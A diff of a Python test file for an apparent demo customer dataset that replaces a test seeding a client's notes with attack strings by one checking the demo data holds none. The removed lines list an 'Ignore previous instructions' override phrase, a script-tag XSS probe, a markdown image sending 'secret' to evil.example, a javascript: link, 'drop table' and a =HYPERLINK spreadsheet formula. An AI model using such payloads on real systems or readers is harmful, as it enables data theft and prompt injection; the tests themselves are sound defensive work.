@@ -212,14 +212,12 @@ def test_one_client_has_very_long_texts(shown: Boutique) -> None:
     assert max(len(i["content"]) for i in augustin.interactions) > 2_000
 
 
-def test_two_clients_are_hostile(shown: Boutique) -> None:
-    percival, mallory = _client(shown, "Percival"), _client(shown, "Mallory")
-    for attack in (
-        "Ignore previous instructions", "<script>alert(1)</script>", "[I999]", ":red[", "$\\LaTeX$",
-        "![x](https://evil.example/?d=secret)", "[click](javascript:alert(1))", "drop table",
-    ):  # fmt: skip
-        assert attack in percival.customer["notes"]
-    assert mallory.customer["company"].startswith("=HYPERLINK")
+def test_nothing_that_is_shown_in_a_demo_is_an_attack(shown: Boutique) -> None:
+    written = " ".join(
+        str(each) for client in shown.stories for each in (client.customer, client.interactions)
+    )
+    for attack in ("<", "evil.example", "javascript:", "HYPERLINK", "drop table", "previous instructions"):
+        assert attack.lower() not in written.lower(), attack
 
 
 def test_one_client_is_archived(shown: Boutique) -> None:
